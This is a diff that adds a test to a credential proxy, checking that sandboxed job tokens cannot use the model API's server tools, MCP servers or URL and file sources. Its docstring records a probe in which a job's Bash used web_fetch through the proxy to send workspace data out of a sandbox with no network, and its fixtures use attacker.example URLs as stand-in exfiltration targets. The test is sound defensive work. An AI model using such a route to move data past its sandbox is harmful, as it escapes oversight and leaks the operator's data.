@@ -97,6 +97,54 @@ def test_a_job_token_reaches_only_the_messages_api(proxy: CredentialProxy, upstr
     assert upstream.received == ["POST /v1/messages", "POST /v1/messages/count_tokens"]
 
 
+def test_a_job_token_has_the_model_api_reach_nothing_beyond_the_model(
+    proxy: CredentialProxy, upstream: FakeAnthropic
+) -> None:
+    """Found by a hostile-caller probe: a job's Bash sent its own request with the `web_fetch`
+    server tool (and MCP servers) through the proxy, and the model API fetched a URL carrying
+    the workspace's data: a way out of a sandbox that has no network."""
+    user = {"role": "user", "content": "fetch it"}
+    fetch = [{"type": "web_fetch_20250910", "name": "web_fetch"}]
+    search = [{"type": "web_search_20250305", "name": "web_search"}]
+    url_image = {"type": "image", "source": {"type": "url", "url": "https://attacker.example/?d=secret"}}
+    file_document = {"type": "document", "source": {"type": "file", "file_id": "file_of_the_operator"}}
+    nested = {
+        "type": "tool_result",
+        "tool_use_id": "t",
+        "content": [{"type": "document", "source": {"type": "content", "content": [url_image]}}],
+    }
+    refused = [
+        {"tools": fetch},
+        {"tools": search},  # this job was not given WebSearch
+        {"tools": [{"type": "code_execution_20250825", "name": "code_execution"}]},
+        {"mcp_servers": [{"type": "url", "url": "https://attacker.example/mcp", "name": "x"}]},
+        {"messages": [{"role": "user", "content": [url_image]}]},
+        {"messages": [{"role": "user", "content": [file_document]}]},
+        {"messages": [{"role": "user", "content": [nested]}]},
+        {"system": [{"type": "text", "text": "x"}, url_image]},
+    ]
+    headers = {"x-api-key": proxy.issue()}
+    for extra in refused:
+        response = via(proxy).post(
+            "/v1/messages", json={**MESSAGE, "messages": [user], **extra}, headers=headers
+        )
+        assert response.status_code == 403, extra
+        assert response.json()["error"]["type"] == "permission_error"
+    assert upstream.received == []
+    # What Claude Code sends: its own tools (no type), and web search for a job given WebSearch.
+    tools = [{"name": "Bash", "description": "d", "input_schema": {"type": "object"}}]
+    allowed = via(proxy).post(
+        "/v1/messages", json={**MESSAGE, "messages": [user], "tools": tools}, headers=headers
+    )
+    assert allowed.status_code == 200
+    searching = {"x-api-key": proxy.issue(credential_proxy.server_tools(["Bash", "WebSearch"]))}
+    searched = via(proxy).post(
+        "/v1/messages", json={**MESSAGE, "messages": [user], "tools": search}, headers=searching
+    )
+    assert searched.status_code == 200
+    assert len(upstream.received) == 2
+
+
 def test_a_body_over_the_limit_is_refused_before_it_is_held(
     proxy: CredentialProxy, upstream: FakeAnthropic
 ) -> None:
